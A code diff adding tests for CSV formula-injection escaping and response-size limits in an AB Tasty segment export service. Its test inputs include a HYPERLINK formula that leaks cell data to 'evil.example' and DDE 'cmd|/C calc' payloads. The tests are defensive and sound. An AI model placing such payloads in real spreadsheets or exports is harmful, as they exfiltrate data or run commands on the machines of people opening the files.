@@ -1,4 +1,4 @@
-import { csvField, etagMatches, etagOf, heapSegmentsOfAlias, requireVisitorId, segmentNameCache, segmentUdcCsv, type SegmentReads } from '../../functions/domain/abtasty';
+import { csvField, csvTextCell, etagMatches, etagOf, heapSegmentsOfAlias, requireVisitorId, responseBytes, segmentNameCache, segmentUdcCsv, type SegmentReads } from '../../functions/domain/abtasty';
 import { BadRequestError } from '../../functions/shared/errors';
 
 const reads = (members: string[], name = 'Engaged, "loyal"') => {
@@ -61,6 +61,64 @@ describe('AB Tasty pull API logic', () => {
     expect(first.nextKey).toEqual({ index: 2 });
     expect(rest.csv.split('\n').filter(Boolean)).toEqual(['c', 'd', 'e'].map((id) => `${id},"Engaged, ""loyal"""`));
     expect(rest.nextKey).toBeUndefined();
+  });
+
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
+    ['+1+cmd|\' /C calc\'!A0', "'+1+cmd|' /C calc'!A0"],
+    ['-10% promo', "'-10% promo"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['\t=1', "'\t=1"],
+    ['\r=1', `"'\r=1"`],
+    ['Engaged = loyal', 'Engaged = loyal'],
+  ])('neutralises a text cell that a spreadsheet would run as a formula: %j', (text, cell) => {
+    expect(csvTextCell(text)).toBe(cell);
+  });
+
+  it('writes formula-like segment names and ?value= neutralised, and visitor ids unchanged', async () => {
+    const { fake } = reads(['-abc', 'v1'], '=cmd|"/C calc"!A0');
+
+    const byName = await segmentUdcCsv(fake, 'ws', '1', {});
+    const byValue = await segmentUdcCsv(fake, 'ws', '1', { value: '@evil' });
+
+    expect(byName.csv).toBe(`visitor_id,value\n-abc,"'=cmd|""/C calc""!A0"\nv1,"'=cmd|""/C calc""!A0"\n`);
+    expect(byValue.csv).toBe("visitor_id,value\n-abc,'@evil\nv1,'@evil\n");
+  });
+
+  it('counts the size cap in response bytes, so a non-ASCII value cannot push a part past Lambda\'s 6 MB', async () => {
+    const ids = Array.from({ length: 20_000 }, (_, index) => `visitor-${String(index).padStart(24, '0')}`);
+    const { fake } = reads(ids);
+    const value = '日本語'.repeat(85); // 255 characters, 765 bytes
+
+    const parts: { csv: string; rows: number }[] = [];
+    let startKey: Record<string, unknown> | undefined;
+    do {
+      const part = await segmentUdcCsv(fake, 'ws', '1', { value, ...(startKey ? { startKey } : {}) });
+      parts.push(part);
+      startKey = part.nextKey;
+    } while (startKey);
+
+    const sizes = parts.map((part) => responseBytes(part.csv));
+    expect(Math.max(...sizes)).toBeLessThanOrEqual(6_000_000);
+    expect(parts.length).toBeGreaterThan(1);
+    expect(parts.flatMap((part) => part.csv.split('\n').filter(Boolean)).slice(1)).toEqual(ids.map((id) => `${id},${value}`));
+  });
+
+  it('reads pages small enough that one page of the largest rows fits the page budget', async () => {
+    const limits: number[] = [];
+    const { fake } = reads(Array.from({ length: 500 }, (_, index) => `v${index}`), `"${'名'.repeat(5000)}"`);
+    const listMembers = fake.listMembers.bind(fake);
+    fake.listMembers = (set, limit, startKey) => {
+      limits.push(limit);
+      return listMembers(set, limit, startKey);
+    };
+
+    const part = await segmentUdcCsv(fake, 'ws', '1', { maxBytes: 100_000, pageMaxBytes: 200_000 });
+
+    // A row: up to 32 id bytes, a comma, the quoted name (15,000 bytes and 6 quotes, 12 bytes JSON-escaped), `\n`.
+    expect(limits).toEqual([13]);
+    expect(responseBytes(part.csv)).toBeLessThanOrEqual(100_000 + 200_000);
+    expect(part.rows).toBe(13);
   });
 
   it('caches segment names per workspace, reloading after the TTL or for an unknown segment', async () => {
